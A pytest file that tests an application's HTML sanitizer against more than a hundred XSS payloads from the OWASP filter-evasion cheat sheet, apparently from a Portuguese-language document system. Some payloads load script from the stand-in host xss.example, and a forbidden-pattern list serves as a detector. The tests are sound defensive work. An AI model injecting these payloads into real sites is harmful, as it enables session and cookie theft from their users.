"""The server-side allow-list: nothing executable survives (OWASP filter-evasion style payloads); formatting does."""
import re
from html.parser import HTMLParser

import pytest

from app.services.sanitize import ATTRIBUTES, TAGS, clean_html

# Based on the OWASP XSS Filter Evasion Cheat Sheet and common variants (≥ 100 payloads).
PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"https://xss.example/xss.css\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"https://xss.example/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=https://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"https://xss.example/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
    "<SCRIPT SRC=\"https://xss.example/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://xss.example/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<IMG SRC=\"https://www.example.com/somecommand.php?somevariables=maliciouscode\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='https://www.google.com/'\">XSS</A>",
    "<A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS</A>",
    "<A HREF=\"//www.google.com/\">XSS</A>",
    "<A HREF=\"javascript&colon;alert(1)\">XSS</A>",
    "<A HREF=\"&#x6A;avascript:alert(1)\">XSS</A>",
    "<A HREF=\" javascript:alert(1)\">XSS</A>",
    "<A HREF=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">XSS</A>",
    "<A HREF=\"vbscript:msgbox(1)\">XSS</A>",
    "<a href=\"/admin/usuarios\">relative</a>",
    "<p onclick=\"alert(1)\" style=\"color:red\" class=\"al-center evil\">text</p>",
    "<td onmouseover=alert(1) colspan=\"javascript:1\">x</td>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<img src=\"/documentos/imagens/abc\" onerror=\"alert(1)\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<img src=\"https://xss.example/pixel.gif\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<div id=\"x\" data-foo=\"bar\" onfocus=alert(1) autofocus tabindex=1>",
    "<h1 onmouseover=alert(1)>Título</h1>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<ol start=\"javascript:1\" onclick=alert(1)><li>a</li></ol>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"\\x01javascript:alert(1)\">x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onpageshow=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<image src=1 onerror=alert(1)>",
    "\"><script>alert(document.domain)</script>",
    "'><img src=x onerror=alert(1)>",
]
assert len(PAYLOADS) >= 100

FORBIDDEN = [r"<script", r"javascript\s*:", r"vbscript\s*:", r"\son[a-z]+\s*=", r"<iframe", r"<object", r"<embed",
             r"<svg", r"<math", r"<style", r"\sstyle\s*=", r"srcdoc", r"data:", r"expression\s*\(", r"<meta", r"<link",
             r"<base", r"<form", r"<input", r"<button", r"<frame", r"<body", r"<video", r"<audio", r"<template",
             r"<textarea", r"<title", r"<xml", r"<noscript", r"xlink", r"<!--", r"<select"]
ALLOWED_ATTRS = {"a": {"href", "rel"}, **{k: set(v) for k, v in ATTRIBUTES.items() if k != "a"}}


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name == "class" and value in ("al-left", "al-center", "al-right", "al-justify"):
                continue
            if name not in ALLOWED_ATTRS.get(tag, set()):
                self.problems.append(f"attribute {tag}.{name}")
            if name == "href" and not re.match(r"^(https?://|mailto:)", value or "", re.I):
                self.problems.append(f"href {value}")
            if name == "src" and not re.fullmatch(r"/documentos/imagens/[0-9a-f]{64}", value or ""):
                self.problems.append(f"src {value}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_survives(payload):
    for candidate in (payload, f"<p>antes {payload} depois</p>", payload.upper()):
        once = clean_html(candidate)
        for cleaned in (once, clean_html(once)):  # stored text is sanitised again on display
            for pattern in FORBIDDEN:
                assert not re.search(pattern, cleaned, re.IGNORECASE), (pattern, cleaned)
            checker = _Checker()
            checker.feed(cleaned)
            assert not checker.problems, (checker.problems, cleaned)


def test_formatting_survives():
    html = ('<h2 class="al-center">Título</h2><p class="al-justify"><strong>negrito</strong> <b>b</b> <em>it</em> '
            '<i>i</i> <u>sub</u> <s>tachado</s><br>linha</p><ul><li>um<ol><li>a</li></ol></li></ul>'
            '<table><thead><tr><th colspan="2">Cab</th></tr></thead><tbody><tr><td rowspan="2">r</td><td>1</td></tr>'
            '</tbody></table><blockquote>citação</blockquote><h4>h4</h4>'
            '<p><a href="https://exemplo.gov.br/x?a=1&amp;b=2">link</a> <a href="mailto:a@b.br">mail</a></p>')
    cleaned = clean_html(html)
    for kept in ('<h2 class="al-center">', '<p class="al-justify">', "<strong>negrito</strong>", "<b>b</b>",
                 "<em>it</em>", "<i>i</i>", "<u>sub</u>", "<s>tachado</s>", "<br>", "<ol><li>a</li></ol>",
                 '<th colspan="2">', '<td rowspan="2">', "<blockquote>citação</blockquote>", "<h4>h4</h4>",
                 'href="https://exemplo.gov.br/x?a=1&amp;b=2"', 'href="mailto:a@b.br"', "<thead>", "<tbody>"):
        assert kept in cleaned, kept


def test_images_only_from_our_storage():
    sha = "a" * 64
    assert clean_html(f'<img src="/documentos/imagens/{sha}" alt="x">') == f'<img src="/documentos/imagens/{sha}" alt="x">'
    assert clean_html('<p><img src="https://evil.example/a.png">x</p>') == "<p>x</p>"  # an <img> without our src goes


def test_word_and_libreoffice_junk_is_dropped():
    word = ('<p class="MsoNormal" style="margin-bottom:0cm;mso-line-height-rule:exactly"><span lang="PT-BR" '
            'style="font-family:Calibri">Texto <o:p></o:p></span></p><!--[if gte mso 9]><xml><w:WordDocument>'
            '</w:WordDocument></xml><![endif]--><font face="Arial">fonte</font>')
    assert clean_html(word) == "<p>Texto </p>fonte"


def test_too_large_is_refused():
    from app.services.errors import InvalidInput
    with pytest.raises(InvalidInput):
        clean_html("<p>" + "x" * 2_000_001 + "</p>")
